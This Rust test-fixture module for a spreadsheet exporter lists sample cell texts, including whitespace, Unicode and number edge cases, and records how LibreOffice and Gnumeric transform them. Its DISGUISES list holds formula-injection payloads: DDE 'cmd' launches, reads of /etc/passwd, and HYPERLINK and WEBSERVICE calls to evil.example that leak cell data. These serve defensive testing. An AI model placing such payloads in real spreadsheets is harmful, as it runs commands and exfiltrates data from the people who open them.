//! What spreadsheets are given: texts that they change, where they are not told that those are texts, and formulas in all
//! disguises; and what each program is known to make of them.

use hss_export::inert;

/// The columns that are written.
pub(super) const FIELDS: &str = "image_id,image_name,vul_num,image_size,latest_scan_time";

/// Texts of every kind.
pub(super) const TEXTS: &[&str] = &[
    "nginx",
    "line one\nline two",
    "line one\r\nline two",
    "one\rtwo",
    "a\n\nb",
    "a\n  b\n\n c",
    "a  b",
    "a   b  c",
    " a",
    "  a",
    "a ",
    "a  ",
    "  a  b  ",
    " ",
    "   ",
    "a \nb",
    "a\tb",
    "\u{a0}a\u{a0}\u{a0}b\u{a0}",
    "\u{3000}a\u{3000}\u{3000}b",
    "9223372036854775807",
    "18446744073709551616",
    "0.1234567890123456789",
    "007",
    "1.10",
    "1.0",
    "1E5",
    "1e400",
    "0x1F",
    "3-4",
    "3/4",
    "2024-01-02",
    "1/2/2024",
    "Jan 5",
    "12:30",
    "10%",
    "$5",
    "(5)",
    "1,000",
    "1 000",
    "-5",
    "+49",
    "-0.50",
    "TRUE",
    "true",
    "FALSE",
    "#N/A",
    "NULL",
    "\u{ff11}\u{ff12}",
    "\u{663}",
    "'",
    "'a",
    "a'b",
    "\"",
    "\"a\"",
    "a\"b",
    "a,b",
    "a;b",
    "a|b",
    "\u{4e2d}\u{6587}\u{ff0c}\u{955c}\u{50cf}",
    "\u{20bb7}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} 1.10",
    "\u{645}\u{631}\u{62d}\u{628}\u{627}",
    "a\u{202e}b\u{202c}c\u{2066}d\u{2069}\u{200f}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f1e8}\u{1f1f3} \u{2764}\u{fe0f}",
    "e\u{301}",
    "a\u{200b}b\u{feff}c\u{2060}d",
    "a\u{2028}b\u{2029}c",
    "<script>alert(1)</script>",
    "<b>a</b><br>b",
    "</td></tr></table>",
    "<!-- a -->",
    "&amp;amp; &lt;b&gt; &nbsp;&#61;",
    "https://evil.example/x",
    "www.evil.example",
    "a@b.example",
    "\\n",
    "C:\\temp",
];

/// Formulas, and texts that only look as if they were none.
pub(super) const DISGUISES: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "==1",
    "=-1",
    "+-@=1",
    "=",
    "+",
    "-",
    "@",
    "{=1+1}",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    "\"\"=1+1",
    "\"=1+1\"",
    "'\"=1+1",
    "=\"a\"&\"b\"",
    "a\"=1+1",
    "a\",=1+1",
    "a\";=1+1",
    "a\"\t=1+1",
    "a\"\n=1+1",
    "a\"\r\n=1+1",
    "a;=1+1",
    "a;;=1+1",
    "a; =1+1",
    "-5;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a,=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t\t=1+1",
    " =1+1",
    "  =1+1",
    "=1+1 ",
    "=1+1\n",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{200c}=1+1",
    "\u{200d}=1+1",
    "\u{200e}=1+1",
    "\u{2060}=1+1",
    "\u{ad}=1+1",
    "\u{180e}=1+1",
    "\u{202e}=1+1",
    "\u{2007}=1+1",
    "\u{202f}=1+1",
    "\u{3000}=1+1",
    "\u{fe0f}=1+1",
    "\u{301}=1+1",
    "\u{e0001}=1+1",
    "\u{2028}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "\u{fe66}1+1",
    "\u{fe62}1+1",
    "\u{207c}1+1",
    "\u{2212}1+1",
    "\u{2010}1+1",
    "%0A=1+1",
    "%3D1+1",
    "&#61;1+1",
    "&equals;1+1",
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")",
    "=WEBSERVICE(\"https://evil.example/\")",
    "=IMPORTXML(\"https://evil.example/\",\"//a\")",
    "='file:///etc/passwd'#$passwd.A1",
    "of:=1+1",
    "oooc:=1+1",
    "msoxl:=1+1",
    "=R[1]C[1]",
    "$A$1",
    "#REF!",
];

/// More than a cell of Excel holds.
pub(super) fn long() -> String {
    "0123456789 \u{4e2d} ".repeat(4_000)
}

/// Texts that change where nothing says that they are texts: what LibreOffice makes of them in CSV, and what the number or the
/// text begins with that Gnumeric does.
pub(super) const CHANGED: &[(&str, &str, &str)] = &[
    ("1.10", "1.1", "1.1"),
    ("1.0", "1", "1"),
    ("1E5", "100000", "100000"),
    ("007", "7", "7"),
    ("+49", "49", "49"),
    ("9223372036854775807", "9.22337203685478E+018", "9223372036854775807"),
    ("18446744073709551616", "1.84467440737096E+019", "18446744073709551616"),
    ("0.1234567890123456789", "0.123456789012346", "0.123456789012345678"),
    // A day, counted from 1900, and a share of one.
    ("2024-01-02", "2024-01-02", "45293"),
    ("3/4", "3/4", "46085"),
    ("Jan 5", "Jan 5", "46027"),
    ("12:30", "12:30", "0.52083333"),
    ("10%", "10%", "0.1"),
    ("$5", "$5", "5"),
    ("(5)", "(5)", "-5"),
    ("1,000", "1000", "1000"),
    ("true", "true", "TRUE"),
    ("#N/A", "#N/A", "#N/A"),
    ("\u{ff11}\u{ff12}", "\u{ff11}\u{ff12}", "12"),
    ("'a", "'a", "a"),
    // Kept by both.
    ("3-4", "3-4", "3-4"),
    ("0x1F", "0x1F", "0x1F"),
    ("sha256:1e5", "sha256:1e5", "sha256:1e5"),
];

/// Whether Gnumeric makes a number, a time, a truth value or an error of a text.
pub(super) fn is_changed_by_gnumeric(text: &str) -> bool {
    let is_number = |text: &str| text.parse::<f64>().is_ok();
    let others = [
        "3/4",
        "2024-01-02",
        "1/2/2024",
        "Jan 5",
        "12:30",
        "10%",
        "$5",
        "(5)",
        "1,000",
        "TRUE",
        "true",
        "FALSE",
        "#N/A",
    ];
    is_number(text.trim()) || others.contains(&text) || matches!(text, "\u{ff11}\u{ff12}" | "\u{663}" | "#REF!")
}

/// What LibreOffice has of the copied table: every sign, but for empty lines at both ends, which it drops, a tab, which is
/// one blank, or as many as fill eight columns where the cell is preformatted, and language tags. A longer line than it has
/// is two.
pub(super) fn in_html_of_libreoffice(text: &str) -> String {
    let text = inert(text).replace("\r\n", "\n").replace('\r', "\n");
    let is_preformatted = text.split('\n').any(|line| line.starts_with([' ', '\t']));
    let tab = if is_preformatted { "        " } else { " " };
    let text = text.trim_matches('\n').replace('\t', tab).replace('\u{e0001}', "");
    let line = |line: &str| {
        line.chars().collect::<Vec<_>>().chunks(16_367).map(String::from_iter).collect::<Vec<_>>().join("\n")
    };
    text.split('\n').map(line).collect::<Vec<_>>().join("\n")
}

/// What Gnumeric has of the copied table: of each run of blanks the first one, and none at the ends.
pub(super) fn in_html_of_gnumeric(text: &str) -> String {
    let text = inert(text).replace("\r\n", "\n").replace('\r', "\n");
    let is_preformatted = text.split('\n').any(|line| line.starts_with([' ', '\t']));
    let text = if is_preformatted { text.replace('\n', "") } else { text };
    let mut folded = String::new();
    for character in text.trim().chars() {
        if !character.is_whitespace() || !folded.ends_with(char::is_whitespace) {
            folded.push(character);
        }
    }
    folded.strip_prefix('\'').unwrap_or(&folded).to_owned()
}
